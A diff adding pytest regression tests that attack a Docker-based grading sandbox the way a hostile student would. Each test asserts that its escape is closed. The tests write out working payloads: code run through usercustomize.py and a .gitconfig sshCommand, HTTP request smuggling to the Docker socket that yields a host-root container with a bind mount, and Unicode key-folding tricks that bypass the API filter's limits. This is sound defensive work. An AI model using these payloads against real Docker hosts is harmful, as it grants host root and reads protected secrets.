@@ -1,0 +1,264 @@
+"""Escapes found by attacking `docker-grader run` as a hostile student would.
+
+Each test shows one way past a layer (the CLI sandbox, the API boundary or the lab's limits)
+and asserts the safe behaviour, so that it fails while the escape is open and passes once it
+is closed. The raw-HTTP tests speak to a boundary in front of the tests' own dockerd, as any
+client that runs in the sandbox could; the end-to-end tests are submissions graded by
+``runner.run`` in the hostile lab of tests/test_sandbox.py, with its canary and neighbour.
+"""
+
+from __future__ import annotations
+
+import json
+import secrets
+import shutil
+import socket
+import tempfile
+from pathlib import Path
+
+import docker
+import pytest
+
+from checks import runner
+from checks.boundary import Boundary, Context, Limits, container_counter
+from checks.lab import REGISTRY_PORT
+
+from test_boundary import daemon_state, exchange, post_json
+from test_sandbox import canary, complete_documents, labs, neighbour_state, probe_course, reset  # noqa: F401 (fixtures)
+
+LONG_S = "\u017f"  # LATIN SMALL LETTER LONG S: Go's encoding/json folds it to "S"; Python's str.lower() leaves it
+
+
+# --- helpers -------------------------------------------------------------------------------------
+@pytest.fixture(scope="module")
+def boundary(lab):
+    """The API boundary in front of the tests' own dockerd, with the run's default limits."""
+    folder = Path(tempfile.mkdtemp(prefix="dga-", dir="/tmp"))
+    context = Context(f"127.0.0.1:{REGISTRY_PORT}", Limits(), container_counter(lab.socket))
+    with Boundary(lab.socket, folder / "boundary.sock", context) as serving:
+        yield serving
+    shutil.rmtree(folder, ignore_errors=True)
+
+
+@pytest.fixture
+def alpine(daemon):
+    daemon.api.pull("alpine:3.14")
+    yield daemon.api
+    for container in daemon.api.containers(all=True):
+        daemon.api.remove_container(container["Id"], force=True, v=True)
+    daemon.api.prune_volumes()
+
+
+def send(boundary: Boundary, raw: bytes, wait: float = 5.0) -> bytes:
+    """Sends raw bytes and reads what comes back until the peer closes or ``wait`` seconds pass."""
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
+        conn.settimeout(wait)
+        conn.connect(str(boundary.listen))
+        data = b""
+        try:
+            conn.sendall(raw)
+            while chunk := conn.recv(65536):
+                data += chunk
+        except OSError:  # a timeout (the connection was kept open), a reset, a broken pipe
+            pass
+    return data
+
+
+def body_of(value) -> bytes:
+    return json.dumps(value, ensure_ascii=False).encode()
+
+
+def inspect_or_none(api: docker.APIClient, name: str) -> dict | None:
+    try:
+        return api.inspect_container(name)
+    except docker.errors.NotFound:
+        return None
+
+
+def grade(folder: Path, files: dict[str, str], lines: list[str], hostile, course):
+    folder.mkdir()
+    (folder / "probe.dc").write_text("\n".join(lines) + "\n")
+    for name, content in files.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_text(content)
+    return runner.run(folder, course, lab=hostile, budget=runner.Budget(command=20, exercise=60, run=90))
+
+
+def outputs(report) -> str:
+    return "\n".join(run.output for run in report.exercises[0].commands)
+
+
+# --- the CLI sandbox runs code that the submission carries ------------------------------------
+def test_the_sandbox_runs_no_python_the_submission_carries(labs, probe_course, tmp_path):
+    """HOME is the submission's copy (/work), and docker-compose v1 is a Python program started
+    without -s or PYTHONNOUSERSITE. So Python imports ``usercustomize`` (and runs ``.pth`` lines)
+    from the submission's ``.local/lib/python3.X/site-packages``: any Python the student writes
+    runs inside the sandbox, although /work is mounted noexec. That code can then speak raw HTTP
+    to the boundary's socket (see the tests below) or try the kernel from the sandbox.
+    Safe: the sandbox's Python ignores the user site (PYTHONNOUSERSITE=1 / ``-s``, or a HOME
+    that is not the submission)."""
+    hostile, _ = labs
+    reset(hostile)
+    marker = "ran-" + secrets.token_hex(8)
+    code = f"import sys\nprint('{marker}', file=sys.stderr)\n"
+    files = {f".local/lib/python3.{minor}/site-packages/usercustomize.py": code for minor in range(7, 14)}
+    report = grade(tmp_path / "submission", files, ["docker-compose version"], hostile, probe_course)
+    assert report.error is None
+    assert marker not in outputs(report)
+    complete_documents(report)
+
+
+def test_the_sandbox_runs_no_command_from_the_submissions_gitconfig(labs, probe_course, tmp_path):
+    """``docker build git@host:repo.git`` makes the docker CLI run ``git clone`` in the sandbox,
+    and git reads $HOME/.gitconfig, which is the submission's own file: ``core.sshCommand`` (or an
+    ``ext::`` URL with ``protocol.ext.allow``) runs any program of the system, e.g. python3 with
+    a script from the submission. Only the docker CLI is needed, so the line policy lets it by.
+    Safe: git in the sandbox reads no configuration from the submission (GIT_CONFIG_GLOBAL=/dev/null,
+    GIT_CONFIG_NOSYSTEM=1, or a HOME outside /work), or git URLs are not built from at all."""
+    hostile, _ = labs
+    reset(hostile)
+    marker = "ran-" + secrets.token_hex(8)
+    files = {".gitconfig": f"[core]\n\tsshCommand = echo {marker} >&2; false\n"}
+    report = grade(tmp_path / "submission", files, ["docker build -t x git@github.com:a/b.git"], hostile, probe_course)
+    assert report.error is None
+    assert marker not in outputs(report)
+    complete_documents(report)
+
+
+# --- the API boundary: a second request smuggled behind an upgrade ------------------------------
+SMUGGLED_ROOT = {
+    "Image": "alpine:3.14",
+    "Cmd": ["sh", "-c", "cat /h/secret; echo planted > /h/planted"],
+    "HostConfig": {"UsernsMode": "host", "Binds": ["/tmp:/h"]},
+}
+
+
+def smuggle(first_path: str, second: bytes) -> bytes:
+    """A request the boundary allows, with ``Upgrade: tcp``, and a second request right behind it."""
+    return (f"POST {first_path} HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\n"
+            "Upgrade: tcp\r\nConnection: Upgrade\r\nContent-Length: 16\r\n\r\n").encode() + b'{"Detach": true}' + second
+
+
+def test_an_upgrade_request_that_is_not_upgraded_carries_no_second_request(boundary, alpine, lab):
+    """On a hijack route (``/exec/ID/start``, ``/containers/ID/attach``) the boundary forwards
+    ``Connection: Upgrade`` instead of ``Connection: close``, then copies the client's bytes to
+    dockerd unread. When dockerd answers without upgrading (no such exec instance: 404; or
+    ``{"Detach": true}``: 200), the connection stays a keep-alive HTTP connection, and dockerd
+    serves the next request on it, which the boundary never judged. Here that request creates a
+    container with ``UsernsMode: host`` and a bind mount of the host's /tmp: root on the host.
+    Safe: nothing sent after the first request reaches dockerd unless dockerd switched protocols
+    (101), and nothing that the boundary did not judge is ever served."""
+    before = daemon_state(lab)
+    second = post_json("/v1.41/containers/create?name=smuggled-root", body_of(SMUGGLED_ROOT))
+    send(boundary, smuggle("/v1.41/exec/no-such-exec/start", second))
+    assert inspect_or_none(alpine, "smuggled-root") is None
+    assert daemon_state(lab) == before
+
+
+def test_a_submission_gets_root_on_the_host_through_the_boundary(labs, canary, probe_course, tmp_path):  # noqa: F811
+    """The two above together, as a student hands them in: a .gitconfig whose ``core.sshCommand``
+    runs a Python script of the submission, which smuggles a ``containers/create`` with
+    ``UsernsMode: host`` and a bind mount of a root-only host folder behind an upgrade request;
+    the next line, ``docker start -a escape``, goes through the boundary as any start does.
+    Measured: the container runs as the host's root, prints the root-only secret into the
+    report and writes a root-owned file into the host folder.
+    Safe: the canary is neither read nor written, whatever the submission carries."""
+    hostile, neighbour = labs
+    reset(hostile)
+    before = neighbour_state(neighbour)
+    attack = f"""
+import json, socket
+body = json.dumps({{"Image": "alpine:3.14", "Cmd": ["sh", "-c", "cat /h/secret; echo planted > /h/planted"],
+                   "HostConfig": {{"UsernsMode": "host", "Binds": ["{canary.folder}:/h"]}}}}).encode()
+second = (b"POST /v1.41/containers/create?name=escape HTTP/1.1\\r\\nHost: d\\r\\nContent-Type: application/json\\r\\n"
+          b"Content-Length: %d\\r\\n\\r\\n" % len(body)) + body
+first = (b"POST /v1.41/exec/none/start HTTP/1.1\\r\\nHost: d\\r\\nContent-Type: application/json\\r\\n"
+         b"Upgrade: tcp\\r\\nConnection: Upgrade\\r\\nContent-Length: 16\\r\\n\\r\\n" b'{{"Detach": true}}')
+conn = socket.socket(socket.AF_UNIX)
+conn.settimeout(5)
+conn.connect("/run/docker.sock")
+conn.sendall(first + second)
+try:
+    while conn.recv(65536):
+        pass
+except OSError:
+    pass
+raise SystemExit(1)
+"""
+    files = {"attack.py": attack, ".gitconfig": "[core]\n\tsshCommand = python3 /work/attack.py\n"}
+    lines = ["docker build -t x git@github.com:a/b.git", "docker start -a escape"]
+    try:
+        report = grade(tmp_path / "submission", files, lines, hostile, probe_course)
+        assert report.error is None
+        assert canary.token not in outputs(report)
+        assert canary.state() == canary.before
+    finally:
+        canary.restore()
+    assert neighbour_state(neighbour) == before
+    complete_documents(report)
+
+
+# --- the API boundary: JSON keys that Go folds and Python does not -----------------------------
+def test_a_folded_key_cannot_hide_a_volume_drivers_options(boundary, alpine, lab):
+    """Go's encoding/json matches object keys case-insensitively with Unicode folding, so
+    ``"Option\u017f"`` (long s) fills ``Options``; the boundary's duplicate and spelling checks use
+    ``str.lower()``, which leaves "\u017f" alone, and ``mounts()`` reads only ``.get("Options")``.
+    A ``--mount type=volume`` whose driver options hide behind that key is allowed, and dockerd's
+    local driver bind-mounts any host path (or mounts a device, or the host's /proc). Measured:
+    a container read a world-readable file of the host's /tmp and wrote a file into it (as the
+    remapped root, uid 100000); ``type=ext4,device=/dev/vda`` works the same way.
+    Safe: the request is refused, or at least no container gets a volume with driver options."""
+    mount = {"Type": "volume", "Source": "folded", "Target": "/h",
+             "VolumeOptions": {"DriverConfig": {"Name": "local", f"Option{LONG_S}": {"type": "none", "o": "bind", "device": "/tmp"}}}}
+    body = {"Image": "alpine:3.14", "Cmd": ["true"], "HostConfig": {"Mounts": [mount]}}
+    exchange(boundary, post_json("/v1.41/containers/create?name=folded-mount", body_of(body)))
+    created = inspect_or_none(alpine, "folded-mount")
+    assert created is None or not any(
+        (m.get("VolumeOptions") or {}).get("DriverConfig", {}).get("Options") for m in created["HostConfig"]["Mounts"] or ()
+    ), created["HostConfig"]["Mounts"]
+    volumes = alpine.volumes()["Volumes"] or []
+    assert not [v for v in volumes if v["Name"] == "folded" and v.get("Options")]
+
+
+def test_a_folded_key_cannot_drop_the_limits_the_boundary_put_in(boundary, alpine, lab):
+    """The boundary writes the lab's limits into ``HostConfig`` (PidsLimit, a json-file log with
+    max-size and max-file) and re-encodes the body; a key ``"Ho\u017ftConfig": null`` after it is
+    an unknown field with a zero value to the boundary, and to Go the same field as HostConfig,
+    decoded last: the container is created with no HostConfig at all. Measured: PidsLimit null,
+    LogConfig ``{"Type": "json-file", "Config": {}}`` (an unbounded log on the lab's RAM-backed
+    data-root). Safe: whatever is created carries the lab's limits."""
+    body = {"Image": "alpine:3.14", "Cmd": ["true"], "HostConfig": {}, f"Ho{LONG_S}tConfig": None}
+    exchange(boundary, post_json("/v1.41/containers/create?name=folded-limits", body_of(body)))
+    created = inspect_or_none(alpine, "folded-limits")
+    if created is not None:
+        host_config = created["HostConfig"]
+        assert host_config["PidsLimit"] == Limits().pids
+        assert host_config["LogConfig"]["Config"].get("max-size") == Limits().log_size
+
+
+# --- the API boundary: a query that Go reads differently -------------------------------------
+def test_an_import_cannot_turn_into_a_pull_from_anywhere(boundary, alpine):
+    """``image_create`` returns early when ``fromSrc`` is ``-`` (an import from the CLI), but
+    dockerd pulls whenever ``fromImage`` is set, whatever ``fromSrc`` says. So
+    ``/images/create?fromSrc=-&fromImage=HOST:PORT/x`` pulls from any registry: the rule that
+    pulls come only from the lab's registry or Docker Hub's mirror does not hold. (The lab's
+    network namespace still keeps the pull from leaving the lab.)
+    Safe: refused, as a pull from that registry alone is."""
+    status, body = exchange(boundary, b"POST /v1.41/images/create?fromSrc=-&fromImage=127.0.0.1:5001/x&tag=1 HTTP/1.1\r\n"
+                                      b"Host: d\r\nContent-Length: 0\r\n\r\n")
+    assert status == 403, body
+
+
+# --- limits the lab sets, which a build does not get -----------------------------------------
+def test_a_builds_containers_get_the_per_container_pids_limit(labs, probe_course, tmp_path):
+    """The boundary puts the per-container PidsLimit into ``containers/create`` only. The classic
+    builder's RUN containers are made inside dockerd, never through that route, so each runs with
+    ``pids.max`` = max: only the lab-wide cgroup cap (pids 1024 by default) is left.
+    Safe: a RUN step sees the same per-container limit as ``docker run``."""
+    hostile, _ = labs
+    reset(hostile)
+    files = {"Dockerfile": "FROM alpine:3.14\nRUN echo pids=$(cat /sys/fs/cgroup/pids/pids.max)\n"}
+    report = grade(tmp_path / "submission", files, ["docker build --no-cache -t pids ."], hostile, probe_course)
+    assert report.error is None
+    text = outputs(report)
+    assert "pids=" in text and "pids=max" not in text, text[-500:]
